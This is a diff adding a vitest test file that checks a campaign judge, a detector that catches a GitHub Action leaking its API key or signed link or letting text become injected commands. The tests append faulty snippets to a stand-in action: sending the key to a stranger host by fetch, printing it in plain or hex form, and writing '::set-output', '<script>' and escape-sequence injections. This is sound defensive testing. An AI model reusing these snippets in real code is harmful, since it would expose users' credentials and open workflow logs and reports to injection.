@@ -1,0 +1,198 @@
+import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import { describe, expect, test } from 'vitest'
+import { troubleLines } from '../../../tools/campaign/campaign-report.ts'
+import type { FaultCase } from '../../../tools/campaign/fault-case.ts'
+import { copyAction } from '../../../tools/campaign/launch.ts'
+import { runCase } from '../../../tools/campaign/run-case.ts'
+import { isStart } from '../../support/service/faults/admin-host.ts'
+import { answerLost } from '../../support/service/faults/breaks.ts'
+
+const actionFile = fileURLToPath(new URL('../../../action.yml', import.meta.url))
+
+/** A small action that does what it should, in the place of the real one. */
+const honest = `
+import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs'
+import { spawnSync } from 'node:child_process'
+const { env } = process
+const key = env['INPUT_API-KEY']
+const marker = env.MARKER
+const append = (variable, text) => appendFileSync(env[variable], text)
+const output = (name, value) => append('GITHUB_OUTPUT', name + '=' + value + '\\n')
+const call = async (method, path, body) => {
+  const headers = { authorization: 'Bearer ' + key }
+  return (await fetch(env['INPUT_BASE-URL'] + path, { method, headers, body })).json()
+}
+const jobs = '/v1/static-export/jobs'
+const start = () => call('POST', jobs, '{"domain":"docs.example.com"}')
+const { jobId } = await start()
+await call('GET', jobs + '/' + jobId)
+const { bundleUrl } = await call('POST', jobs + '/' + jobId + '/bundle')
+const signature = decodeURIComponent(bundleUrl.split(/ig(?:nature)?=/)[1].split('&')[0])
+for (const [name, value] of Object.entries({ jobId, bundleUrl, status: 'completed' })) output(name, value)
+output('errorCode', '')
+output('outcome', 'success')
+`
+
+/** Runs a case with an action that is not the real one; what the judge says of it. */
+async function judged(source: string, change: Partial<FaultCase> = {}): Promise<string> {
+  const folder = await mkdtemp(join(tmpdir(), 'deed-'))
+  try {
+    await mkdir(join(folder, 'dist'))
+    await writeFile(join(folder, 'dist', 'index.js'), source)
+    await writeFile(join(folder, 'dist', 'package.json'), '{ "type": "module" }')
+    await using action = await copyAction(join(folder, 'dist'), actionFile)
+    const result = await runCase(
+      {
+        name: 'a deed',
+        setting: { delivery: 'link', timeout: 5 },
+        inject: ({ env, marker, stranger }) =>
+          Object.assign(env, { MARKER: marker, STRANGER: stranger.origin }),
+        expect: 'success',
+        ...change,
+      },
+      1,
+      action,
+    )
+    return troubleLines(result).join('\n')
+  } finally {
+    await rm(folder, { recursive: true })
+  }
+}
+
+const patience = { timeout: 60_000 }
+
+describe.concurrent('the judge of the campaign', () => {
+  test('finds nothing in a run that does what it should', patience, async () => {
+    expect(await judged(honest)).toBe('')
+  })
+
+  const deeds: [deed: string, source: string, found: RegExp][] = [
+    ['prints the key', "console.log('key ' + key)", /leak: the key \(plain\) in stdout/],
+    [
+      'prints it in hex',
+      "console.log(Buffer.from(key).toString('hex'))",
+      /the key \(hex\) in stdout/,
+    ],
+    ['prints it to stderr', 'console.error(key)', /the key \(plain\) in stderr/],
+    ['makes an output of it', "output('model', key)", /the key \(plain\) in outputs/],
+    [
+      'saves it as state',
+      "append('GITHUB_STATE', 'a=' + key + '\\n')",
+      /the key \(plain\) in state/,
+    ],
+    ['prints the link', 'console.log(bundleUrl)', /leak: the link \(.*\) in stdout/],
+    [
+      'writes the signature into the summary',
+      "append('GITHUB_STEP_SUMMARY', '`' + Buffer.from('x' + signature).toString('base64') + '`')",
+      /leak: the link \(base64 at 1\) in the file .*step_summary/,
+    ],
+    [
+      'tells a stranger the key',
+      'await fetch(env.STRANGER, { headers: { key } })',
+      /a stranger received/,
+    ],
+    [
+      'hands its environment on',
+      "spawnSync('true')",
+      /leak: the key \(.*\) in the file .*children/,
+    ],
+    [
+      'gives the key as an argument',
+      "spawnSync('true', [key], { env: {} })",
+      /in the file .*children/,
+    ],
+    [
+      'lets text be a command',
+      "console.log('::set-output name=a::' + marker)",
+      /injected: the command "::set-output/,
+    ],
+    [
+      'lets text be an older one',
+      "console.log('x ##[error]' + marker)",
+      /injected: the command "x ##/,
+    ],
+    [
+      'lets text be an escape',
+      "console.log('\\u001b[31m' + marker)",
+      /the character U\+1b in the log/,
+    ],
+    [
+      'lets text be a link',
+      "append('GITHUB_STEP_SUMMARY', '[a](https://' + marker + '.example)')",
+      /injected: a link to https:\/\/evil/,
+    ],
+    ['lets text be an element', "append('GITHUB_STEP_SUMMARY', '<img src=x>')", /the element html/],
+    [
+      'lets text be a script of the report',
+      "const page = process.cwd() + '/page.html'; writeFileSync(page, '<script>' + marker); output('reportPath', page)",
+      /injected: the element script/,
+    ],
+    [
+      'makes an output of another link',
+      "output('bundleUrl', 'https://x.example/')",
+      /another link than/,
+    ],
+    ['makes an output of another job', "output('jobId', 'another')", /the job another is none/],
+    ['fails all the same', 'process.exitCode = 1', /exit code 1 with success/],
+    ['tells an error all the same', "console.log('::error title=X::X: y.')", /1 errors told/],
+    ['tells of another outcome', "output('outcome', 'failed')", /ended with , not success/],
+    ['has a fault of its own', "throw new Error('oops')", /stderr: .*|exit code 1 with success/],
+    [
+      'leaves a file behind',
+      "writeFileSync(env.RUNNER_TEMP + '/bundle.part', 'x')",
+      /wrong: .*bundle\.part is left/,
+    ],
+    [
+      'leaves a temporary file',
+      "writeFileSync(env.TMPDIR + '/x', 'x')",
+      /the temporary file x is left/,
+    ],
+    [
+      'writes into the workspace',
+      "mkdirSync('.site.new-1')",
+      /\.site\.new-1\/ in the workspace is new/,
+    ],
+    ['hangs', 'setInterval(() => {}, 1000)', /hung beyond its deadline/],
+  ]
+  for (const [deed, source, found] of deeds) {
+    test(`finds a run that ${deed}`, patience, async () => {
+      expect(await judged(`${honest}${source}\n`)).toMatch(found)
+    })
+  }
+
+  test(
+    'finds a start that is sent again after one that may have been taken',
+    patience,
+    async () => {
+      const again = honest.replace('await start()', 'await start().catch(start)')
+      const lost: FaultCase['inject'] = ({ host }) => host.fail(isStart, answerLost('reset'))
+      expect(await judged(again, { inject: lost })).toMatch(/a start was sent after one that may/)
+    },
+  )
+
+  test('finds another end than the one that is expected', patience, async () => {
+    expect(await judged(honest, { expect: 'CONFLICT' })).toMatch(/ended with success, not CONFLICT/)
+  })
+
+  test('finds a file that is not what the store has', patience, async () => {
+    const wrong = "writeFileSync('b', 'x'); output('bundlePath', 'b')"
+    const change = { setting: { delivery: 'download' } } as const
+    expect(await judged(`${honest}${wrong}\n`, change)).toMatch(/success with wrong data/)
+  })
+
+  test('finds a jobId that the host gave and that does not come out', patience, async () => {
+    const silent = `${honest.split('for (const')[0]}process.on('SIGINT', () => process.exit(1)); setInterval(() => {}, 1000)\n`
+    const cancelAt: FaultCase['cancelAt'] = ({ host }) =>
+      new Promise((resolve) => {
+        host.fail(isStart, async ({ socket, wire, send }) => {
+          socket.on('close', () => setTimeout(resolve, 300))
+          send(await wire())
+        })
+      })
+    const found = await judged(silent, { expect: 'CANCELLED', cancelAt })
+    expect(found).toMatch(/the host gave a jobId, and it is no output/)
+  })
+})
